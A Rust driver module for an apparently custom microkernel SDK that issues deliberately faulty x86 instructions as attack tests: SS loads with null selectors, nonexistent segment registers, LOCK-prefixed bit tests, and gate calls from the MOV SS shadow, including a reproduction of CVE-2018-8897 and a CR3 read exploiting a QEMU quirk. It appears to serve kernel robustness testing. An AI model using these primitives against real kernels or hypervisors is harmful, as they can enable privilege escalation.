//! Attacks that load SS or what is no segment, or lock a bit test of a register:
//! `tell rogue-ss VERB [NUMBER]`. They are in a module of their own because QEMU's TCG takes them
//! for more than they are; there the module is refused, unless `limits ss-loads`, `seg-loads` and
//! `lock-bts` let it in.
#![no_std]

use core::arch::asm;
use ringfence_sdk::service::raw;
use ringfence_sdk::{Driver, Manifest, Refusal, Result, driver};

driver!(RogueSs, Manifest::new("rogue-ss", env!("CARGO_PKG_VERSION")).upcall_ms(100));

struct RogueSs;

/// What ring 1 has in SS: a null selector that asks for level 1.
const NULL: u16 = 1;
/// The selectors of the gates of `rf_null` and of the end of an upcall (the layout is the kernel's;
/// it is no secret).
const NULL_GATE: u16 = 6 << 3 | 5;
const RETURN_GATE: u16 = 4 << 3 | 5;

impl Driver for RogueSs {
    fn init() -> Result<RogueSs> {
        // Who calls it by its stub is granted its gate.
        // SAFETY: does nothing.
        unsafe { raw::rf_null() };
        Ok(RogueSs)
    }

    fn command(&mut self, text: &str) -> Result<u64> {
        let (verb, argument) = text.split_once(' ').unwrap_or((text, "0"));
        let argument = ringfence_sdk::number(argument)?;
        match verb {
            "load-ss" => load_ss(argument as u16),
            "load-lss" => load_lss(argument as u16),
            "null-ss" => return Ok(null_ss()),
            "shadowed-gate" => shadowed(NULL_GATE),
            "shadowed-return" => shadowed(RETURN_GATE),
            "lock-bt" => lock_bt(argument),
            "load-none" => load_none(argument),
            "watched-gate" => return Ok(watched_gate(argument)),
            _ => return Err(Refusal::NotFound),
        }
        Ok(0)
    }
}

#[inline(never)]
fn load_ss(selector: u16) {
    // SAFETY: none; that is the point, here and below.
    unsafe { asm!("mov ss, {:x}", in(reg) selector) };
}

/// Loads SS and the stack pointer together, and gives that back.
#[inline(never)]
fn load_lss(selector: u16) {
    // SAFETY: none. LSS with 64 bits is Intel's only; this one takes 32 bits of stack pointer and
    // clears the others.
    unsafe {
        asm!("mov {saved}, rsp", "push rax", "push 0", "mov dword ptr [rsp + 4], eax", "lss ecx, [rsp]", "mov rsp, {saved}",
            in("rax") u64::from(selector), out("rcx") _, saved = out(reg) _)
    };
}

/// Loads CS, which nobody can with MOV, or segment register 6 or 7, which do not exist.
#[inline(never)]
fn load_none(which: u64) {
    // SAFETY: none.
    unsafe {
        match which {
            1 => asm!(".byte 0x8e, 0xc8", in("eax") 0),
            6 => asm!(".byte 0x8e, 0xf0", in("eax") 0),
            _ => asm!(".byte 0x8e, 0xf8", in("eax") 0),
        }
    };
}

/// Bit tests of a register with a LOCK prefix, which are no instructions: with the bit's number in
/// a register and in the instruction, with other prefixes around.
#[inline(never)]
fn lock_bt(which: u64) {
    // SAFETY: none.
    unsafe {
        match which {
            0 => asm!(".byte 0xf0, 0x0f, 0xa3, 0xc9"),
            1 => asm!(".byte 0xf0, 0x0f, 0xab, 0xc9", out("rcx") _),
            2 => asm!(".byte 0xf0, 0x66, 0x0f, 0xb3, 0xc9", out("rcx") _),
            3 => asm!(".byte 0xf0, 0x48, 0x0f, 0xbb, 0xc9", out("rcx") _),
            _ => asm!(".byte 0x66, 0xf0, 0xf2, 0x0f, 0xba, 0xe1, 1"),
        }
    };
}

/// Loads a null selector into SS and reads CR3, which only ring 0 can. QEMU takes the ring from SS,
/// and says what CR3 is.
#[inline(never)]
fn null_ss() -> u64 {
    let cr3: u64;
    // SAFETY: none.
    unsafe { asm!("mov ss, {:x}", "mov {}, cr3", in(reg) NULL, out(reg) cr3) };
    cr3
}

/// Single-steps into a gate from the shadow of a write to SS, which holds the step back until the
/// gate was entered.
#[inline(never)]
fn shadowed(gate: u16) {
    let target = [0u16, 0, gate];
    // SAFETY: none.
    unsafe {
        asm!(
            "pushfq",
            "or qword ptr [rsp], 0x100",
            "popfq",
            "mov ss, cx",
            ".byte 0xff, 0x18", // call far [rax]
            inout("rax") target.as_ptr() as u64 => _, in("cx") NULL, clobber_abi("C")
        )
    };
}

/// Loads SS from `address`, which somebody watches, and calls a gate right behind that: the debug
/// exception for the load is held back until the gate was entered (CVE-2018-8897).
#[inline(never)]
fn watched_gate(address: u64) -> u64 {
    let target = [0u16, 0, NULL_GATE];
    let result: u64;
    // SAFETY: none.
    unsafe {
        asm!(
            "mov word ptr [rcx], {null}",
            "mov ss, word ptr [rcx]",
            ".byte 0xff, 0x18",
            null = const NULL,
            inout("rax") target.as_ptr() as u64 => result, inout("rcx") address => _, clobber_abi("C")
        )
    };
    result
}
